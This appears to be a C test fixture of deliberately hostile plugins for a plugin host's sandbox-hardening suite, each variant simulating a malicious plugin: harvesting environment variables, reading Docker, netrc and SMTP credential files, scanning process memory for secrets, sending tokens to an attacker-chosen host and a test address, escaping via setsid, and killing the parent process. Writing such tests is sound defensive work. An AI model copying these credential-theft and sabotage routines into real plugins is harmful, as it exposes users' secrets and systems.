/*
 * Hostile collectors for the hardening suite (issue 15), one per
 * BEHAVIOUR macro.  Each does one thing a broken or malicious in-house
 * plugin could do; test_harden.py checks the run keeps its promises.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <math.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include <opsgrade/plugin.h>

#if defined(BEHAVIOUR_SECRETS)
/* Everything of the process's environment it can read, as one string:
 * getenv() of the well-known names and /proc/self/environ. */
static void
leak_environment(struct og_ctx *ctx, const struct og_host *host)
{
	static const char *const names[] = {
		"GITHUB_TOKEN", "GH_TOKEN", "OPSGRADE_SMTP_PASSWORD",
		"OPSGRADE_REGISTRY_PASSWORD", "OPSGRADE_REGISTRY_USER",
	};
	char buf[65536];
	size_t n = 0;
	ssize_t k;
	int fd;

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		const char *v = getenv(names[i]);

		n += (size_t)snprintf(buf + n, sizeof(buf) - n, "%s=%s;",
				      names[i], v ? v : "(unset)");
	}
	fd = open("/proc/self/environ", O_RDONLY);
	if (fd >= 0) {
		while (n + 1 < sizeof(buf) &&
		       (k = read(fd, buf + n, sizeof(buf) - n - 1)) > 0)
			n += (size_t)k;
		close(fd);
	}
	for (size_t i = 0; i < n; i++)
		if (buf[i] == '\0')
			buf[i] = ';';
	buf[n] = '\0';
	host->fact_string(ctx, "hostile.secrets.environment", buf, NULL);
	/* and the parent's environment, through /proc */
	snprintf(buf, sizeof(buf), "/proc/%d/environ", (int)getppid());
	fd = open(buf, O_RDONLY);
	n = 0;
	if (fd >= 0) {
		while (n + 1 < sizeof(buf) &&
		       (k = read(fd, buf + n, sizeof(buf) - n - 1)) > 0)
			n += (size_t)k;
		close(fd);
	}
	for (size_t i = 0; i < n; i++)
		if (buf[i] == '\0')
			buf[i] = ';';
	buf[n] = '\0';
	host->fact_string(ctx, "hostile.secrets.parent_environment", buf, NULL);
}
#endif

#if defined(BEHAVIOUR_SECRETS)
/* Needles from HOSTILE_NEEDLES (hex of "a\nb\n..." XORed with 0x5a, so
 * the variable itself holds none of them), in a mapping of their own. */
static char *
needles(size_t *ret_len)
{
	const char *hex = getenv("HOSTILE_NEEDLES");
	size_t n = hex ? strlen(hex) / 2 : 0;
	char *buf = mmap(NULL, n + 1, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (buf == MAP_FAILED)
		return NULL;
	for (size_t i = 0; i < n; i++) {
		unsigned v = 0;

		sscanf(hex + 2 * i, "%2x", &v);
		buf[i] = (char)(v ^ 0x5a);
	}
	buf[n] = '\0';
	*ret_len = n + 1;
	return buf;
}

enum { ENV_BACK = 64 << 10 };

/* Whether the hit at @at (in the mapping [@lo, @hi) of /proc/self/maps
 * @line) lies in a copy of the whole environment block the process
 * started with, as /proc/self/environ gives it: in an anonymous mapping,
 * inside a run of "NAME=value" strings that begins on a page boundary
 * with the first variable (HOSTILE_ENVIRON_HEAD).  That is the buffer a
 * sanitizer runtime's GetEnv (sanitizer_linux.cpp) maps and fills before
 * main(); the environment on the stack does not start on a page. */
static bool
in_environ_copy(const char *line, unsigned long lo, unsigned long at,
		int mem, char *back)
{
	const char *head = getenv("HOSTILE_ENVIRON_HEAD");
	char path[256] = "";
	size_t n = head ? strlen(head) : 0;
	long page = sysconf(_SC_PAGESIZE);
	unsigned long p = at & ~((unsigned long)page - 1);

	if (!n || (sscanf(line, "%*s %*s %*s %*s %*s %255s", path) == 1 &&
		   strncmp(path, "[anon:", 6) != 0))
		return false;
	for (; p >= lo && at - p < ENV_BACK; p -= (unsigned long)page) {
		size_t len = at - p;
		bool strings = true;

		if (pread(mem, back, len, (off_t)p) != (ssize_t)len)
			return false;
		if (len >= n && !memcmp(back, head, n)) {
			/* NAME= after every NUL up to the hit */
			for (size_t i = 0; i + 1 < len && strings; i++)
				if (back[i] == '\0')
					strings = back[i + 1] == '_' ||
						  (back[i + 1] >= 'A' && back[i + 1] <= 'Z') ||
						  (back[i + 1] >= 'a' && back[i + 1] <= 'z');
			memset(back, 0, len);
			return strings;
		}
		if (p < (unsigned long)page)
			break;
	}
	memset(back, 0, ENV_BACK);
	return false;
}

static bool
holds(unsigned long lo, unsigned long hi, const void *p)
{
	return lo <= (unsigned long)(uintptr_t)p && (unsigned long)(uintptr_t)p < hi;
}

static void
put_counts(struct og_ctx *ctx, const struct og_host *host, const char *key,
	   const size_t *counts, size_t n)
{
	char out[256] = "";

	for (size_t i = 0; i < n; i++)
		snprintf(out + strlen(out), sizeof(out) - strlen(out), "%zu:%zu;",
			 i, counts[i]);
	host->fact_string(ctx, key, out, NULL);
}

/* How often each needle occurs in this process's readable memory
 * (besides the needle and scratch mappings): "i:count;" per needle,
 * with those in a copy of the start-up environment (in_environ_copy)
 * counted apart. */
static void
scan_memory(struct og_ctx *ctx, const struct og_host *host)
{
	enum { CHUNK = 1 << 20, OVERLAP = 256 };
	size_t nlen = 0, counts[16] = { 0 }, env_counts[16] = { 0 }, n_needles = 0;
	char *nbuf = needles(&nlen), *list[16], *scratch, *back, line[512];
	FILE *maps = fopen("/proc/self/maps", "r");
	int mem = open("/proc/self/mem", O_RDONLY);

	scratch = mmap(NULL, CHUNK + OVERLAP, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	back = mmap(NULL, ENV_BACK, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (!nbuf || !maps || mem < 0 || scratch == MAP_FAILED || back == MAP_FAILED)
		return;
	/* flagged apart, so the kernel merges them with no mapping of the
	 * process's own (they are skipped by address) */
	madvise(nbuf, nlen, MADV_DONTDUMP);
	madvise(scratch, CHUNK + OVERLAP, MADV_DONTDUMP);
	madvise(back, ENV_BACK, MADV_DONTDUMP);
	for (char *t = strtok(nbuf, "\n"); t && n_needles < 16; t = strtok(NULL, "\n"))
		list[n_needles++] = t;
	while (fgets(line, sizeof(line), maps)) {
		unsigned long lo, hi;
		char perms[8];

		/* Past 64 GiB a mapping is a sanitizer's shadow (terabytes of
		 * reserved zeros, hours to read), never a heap or a stack. */
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 ||
		    hi - lo > (64ul << 30) ||
		    perms[0] != 'r' || strstr(line, "[vvar]") ||
		    strstr(line, "[vsyscall]") ||
		    holds(lo, hi, nbuf) || holds(lo, hi, scratch) || holds(lo, hi, back))
			continue;
		for (unsigned long off = lo; off < hi; off += CHUNK) {
			size_t want = hi - off > CHUNK + OVERLAP ? CHUNK + OVERLAP
								 : hi - off;
			ssize_t got = pread(mem, scratch, want, (off_t)off);

			for (size_t i = 0; got > 0 && i < n_needles; i++) {
				size_t len = strlen(list[i]);

				for (char *p = scratch; (p = memmem(p, (size_t)got -
						(size_t)(p - scratch), list[i], len));
				     p += len)
					/* the overlap is counted in the next chunk */
					if ((size_t)(p - scratch) < CHUNK)
						(in_environ_copy(line, lo, off +
							(unsigned long)(p - scratch), mem, back)
						 ? env_counts : counts)[i]++;
			}
			memset(scratch, 0, CHUNK + OVERLAP);
		}
	}
	fclose(maps);
	close(mem);
	put_counts(ctx, host, "hostile.secrets.memory", counts, n_needles);
	put_counts(ctx, host, "hostile.secrets.memory_environ_copy", env_counts,
		   n_needles);
}
#endif

#if defined(BEHAVIOUR_KILLPARENT)
/* The pid of the nearest ancestor whose name is "opsgrade", found the way
 * a malicious plugin would: walking /proc. */
static pid_t
find_host(void)
{
	pid_t pid = getppid();

	for (int depth = 0; depth < 8 && pid > 1; depth++) {
		char path[64], buf[512], *p;
		long ppid;
		int fd;
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
		fd = open(path, O_RDONLY);
		if (fd < 0)
			return 0;
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		if (n <= 0)
			return 0;
		buf[n] = '\0';
		if (strstr(buf, "(opsgrade)"))
			return pid;
		p = strrchr(buf, ')');
		if (!p || sscanf(p + 1, " %*c %ld", &ppid) != 1)
			return 0;
		pid = (pid_t)ppid;
	}
	return 0;
}
#endif

static int
collect(struct og_ctx *ctx, void *state)
{
	const struct og_host *host = state;

	host->fact_bool(ctx, "hostile." PLUGIN_NAME ".started", true, NULL);
#if defined(BEHAVIOUR_BADTEXT)
	{
		/* overlong '/', an encoded surrogate, a code point above
		 * U+10FFFF, a stray continuation byte, then a valid "é" */
		static const char title[] = "A\xc0\xaf" "B\xed\xa0\x80" "C"
			"\xf4\x90\x80\x80" "D\x80" "E\xc3\xa9";
		struct og_finding f = {
			.struct_size = sizeof(f), .id = "BAD-UTF8-1",
			.title = title, .severity = OG_SEV_LOW,
			.score = -1,
		};

		host->finding(ctx, &f);
		host->fact_string(ctx, "hostile.badtext.value", title, NULL);
		host->log(ctx, OG_LOG_WARN, "log with \x1b[31mred\x1b[0m and "
			  "\x1b]0;title\x07 escapes");
	}
#elif defined(BEHAVIOUR_BADVALUES)
	{
		struct og_finding f = {
			.struct_size = sizeof(f), .id = "BAD-SEV-1",
			.severity = (enum og_severity)99, .score = -1,
		};
		struct og_event e = {
			.struct_size = sizeof(e), .type = "deployment",
			.time = INT64_MAX,
		};

		host->fact_number(ctx, "hostile.badvalues.nan", NAN, NULL, NULL);
		host->fact_number(ctx, "hostile.badvalues.inf", INFINITY, NULL, NULL);
		host->finding(ctx, &f);
		f.id = "BAD-KIND-1";
		f.severity = OG_SEV_LOW;
		f.kind = (enum og_finding_kind)-3;
		host->finding(ctx, &f);
		host->event(ctx, &e);
		e.time = INT64_MIN;
		host->event(ctx, &e);
	}
#elif defined(BEHAVIOUR_WRITER)
	{
		/* a file where the user may write but a plugin may not, and
		 * one in its private temp dir */
		const char *outside = getenv("HOSTILE_OUTSIDE"), *tmp = getenv("TMPDIR");
		char path[4096], what[256];
		int fd = outside ? open(outside, O_WRONLY | O_CREAT | O_TRUNC, 0644) : -1;

		snprintf(what, sizeof(what), "%s", fd >= 0 ? "written" : strerror(errno));
		if (fd >= 0)
			close(fd);
		host->fact_string(ctx, "hostile.writer.outside", what, NULL);
		snprintf(path, sizeof(path), "%s/scratch", tmp ? tmp : "/nonexistent");
		fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
		snprintf(what, sizeof(what), "%s", fd >= 0 ? "written" : strerror(errno));
		if (fd >= 0)
			close(fd);
		host->fact_string(ctx, "hostile.writer.tmp", what, NULL);
		host->fact_string(ctx, "hostile.writer.tmpdir", tmp ? tmp : "", NULL);
	}
#elif defined(BEHAVIOUR_READER)
	{
		/* its declared input, then files holding secrets that its
		 * user may read but it may not: its own credential's file
		 * (the keeper reads that), the Docker login, ~/.netrc, the
		 * SMTP password file, an undeclared file in the cwd */
		const char *home = getenv("HOME"), *smtp = getenv("HOSTILE_SMTP_FILE");
		char docker[4096], netrc[4096];
		const char *what[][2] = {
			{ "input", host->config_get(ctx, "input") },
			{ "token_file", host->config_get(ctx, "token_file") },
			{ "docker_config", docker }, { "netrc", netrc },
			{ "smtp_password", smtp }, { "undeclared", "undeclared.txt" },
		};

		snprintf(docker, sizeof(docker), "%s/.docker/config.json", home ? home : "");
		snprintf(netrc, sizeof(netrc), "%s/.netrc", home ? home : "");
		for (size_t i = 0; i < sizeof(what) / sizeof(what[0]); i++) {
			char key[64], buf[256];
			int fd = what[i][1] ? open(what[i][1], O_RDONLY) : -1;
			ssize_t n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;

			snprintf(key, sizeof(key), "hostile.reader.%s", what[i][0]);
			snprintf(buf, sizeof(buf), "%s", n >= 0 ? "read" :
				 what[i][1] ? strerror(errno) : "unset");
			if (fd >= 0)
				close(fd);
			host->fact_string(ctx, key, buf, NULL);
		}
	}
#elif defined(BEHAVIOUR_SECRETS)
	leak_environment(ctx, host);
	{
		/* use its own credential (the GitHub token, declared for
		 * loopback), then look for it in its own memory */
		char url[512];
		const char *base = getenv("HOSTILE_URL");
		struct og_http_request a = { .struct_size = sizeof(a),
					     .url = url, .auth = "secret:secrets.token",
					     .no_cache = true };
		const struct og_http_request *reqs[] = { &a };
		struct og_http_response *resp[1] = { NULL };

		snprintf(url, sizeof(url), "%s-declared", base ? base : "");
		host->fact_bool(ctx, "hostile.secrets.available",
				host->secret_available(ctx, "secrets.token"), NULL);
		if (base && host->http_batch(ctx, reqs, 1, resp) == 0)
			host->http_free(ctx, resp[0]);
		scan_memory(ctx, host);
	}
#elif defined(BEHAVIOUR_EXFIL)
	{
		/* the old host-wide name for the GitHub token, its own
		 * token (declared for api.github.com) to a host of its
		 * choosing, and its login over plain HTTP to a non-loopback
		 * host */
		const char *url = getenv("HOSTILE_URL");
		struct og_http_request a = { .struct_size = sizeof(a),
					     .url = url, .auth = "github",
					     .no_cache = true };
		struct og_http_request b = { .struct_size = sizeof(b),
					     .url = url, .auth = "secret:exfil.token",
					     .no_cache = true };
		struct og_http_request c = { .struct_size = sizeof(c),
					     .url = "http://192.0.2.1:9/v2/",
					     .auth = "secret:exfil.login",
					     .no_cache = true };
		const struct og_http_request *reqs[] = { &a, &b, &c };
		struct og_http_response *resp[3] = { NULL, NULL, NULL };

		if (url && host->http_batch(ctx, reqs, 3, resp) == 0) {
			host->fact_string(ctx, "hostile.exfil.github_auth",
					  resp[0]->error ? resp[0]->error : "sent",
					  NULL);
			for (int i = 0; i < 3; i++)
				host->http_free(ctx, resp[i]);
		}
	}
#elif defined(BEHAVIOUR_FLOOD)
	/* unique facts without end, then (if ever) findings */
	for (unsigned long i = 0;; i++) {
		char key[64];

		snprintf(key, sizeof(key), "hostile.flood.k%lu", i);
		if (host->fact_bool(ctx, key, true, "flood") < 0)
			break;
	}
#elif defined(BEHAVIOUR_FLOODF)
	for (unsigned long i = 0;; i++) {
		char id[64];
		struct og_finding f = { .struct_size = sizeof(f), .id = id,
					.severity = OG_SEV_LOW, .score = -1,
					.title = "a finding in a flood of them" };

		snprintf(id, sizeof(id), "FLOOD-%lu", i);
		if (host->finding(ctx, &f) < 0)
			break;
	}
#elif defined(BEHAVIOUR_SETSID)
	{
		/* a grandchild in its own session that outlives collect();
		 * its pid (as the host sees it: in a PID namespace getpid()
		 * is not) comes back over a pipe and goes into a fact, as
		 * Landlock lets the plugin write no file the test can read */
		int fds[2];
		char self[32] = "0";
		pid_t pid;

		if (pipe(fds) < 0)
			return -errno;
		pid = fork();
		if (pid == 0) {
			setsid();
			if (fork() == 0) {
				(void)!readlink("/proc/self", self, sizeof(self) - 1);
				(void)!write(fds[1], self, strlen(self));
				close(fds[1]);
				for (int i = 0; i < 600; i++)
					sleep(1);
			}
			_exit(0);
		}
		close(fds[1]);
		(void)!read(fds[0], self, sizeof(self) - 1);
		close(fds[0]);
		host->fact_string(ctx, "hostile.setsid.pid", self, NULL);
	}
#elif defined(BEHAVIOUR_KILLPARENT)
	{
		pid_t hostpid = find_host();

		kill(getppid(), SIGTERM);
		/* (never kill(-1): outside a PID namespace that is every
		 * process of the user running the suite) */
		if (hostpid > 0 && getenv("HOSTILE_FIND_HOST"))
			kill(hostpid, SIGTERM);
		sleep(1);
		host->fact_bool(ctx, "hostile.killparent.survived", true, NULL);
	}
#endif
	return 0;
}

static int
init(struct og_ctx *ctx, const struct og_host *host, void **ret_state)
{
	(void)ctx;
	*ret_state = (void *)host;
	return 0;
}

#if defined(BEHAVIOUR_SECRETS)
static const char *const token_hosts[] = { "127.0.0.1", NULL };
static const struct og_credential credentials[] = {
	{ .name = "secrets.token", .env = "GITHUB_TOKEN", .hosts = token_hosts },
	{ .name = NULL },
};
#elif defined(BEHAVIOUR_EXFIL)
static const char *const token_hosts[] = { "api.github.com", NULL };
static const char *const login_hosts[] = { "192.0.2.1:9", NULL };
static const struct og_credential credentials[] = {
	{ .name = "exfil.token", .env = "GH_TOKEN", .hosts = token_hosts },
	{ .name = "exfil.login", .env = "OPSGRADE_REGISTRY_PASSWORD",
	  .user_env = "OPSGRADE_REGISTRY_USER", .scheme = "Basic",
	  .hosts = login_hosts },
	{ .name = NULL },
};
#elif defined(BEHAVIOUR_READER)
static const char *const token_hosts[] = { "127.0.0.1", NULL };
static const struct og_credential credentials[] = {
	{ .name = "reader.token", .file_option = "token_file", .hosts = token_hosts },
	{ .name = NULL },
};
#else
static const struct og_credential credentials[] = { { .name = NULL } };
#endif

#if defined(BEHAVIOUR_READER)
static const struct og_option options[] = {
	{ .key = "input", .type = OG_OPT_STRING, .flags = OG_OPTF_PATH,
	  .help = "a file it is meant to read" },
	{ .key = "token_file", .type = OG_OPT_STRING, .flags = OG_OPTF_PATH,
	  .help = "its token (for the keeper, not for it)" },
	{ .key = NULL },
};
#else
static const struct og_option options[] = { { .key = NULL } };
#endif

OG_PLUGIN_DEFINE(.name = PLUGIN_NAME, .version = "1", .summary = "hostile test plugin",
		 .init = init, .collect = collect, .credentials = credentials,
		 .options = options)
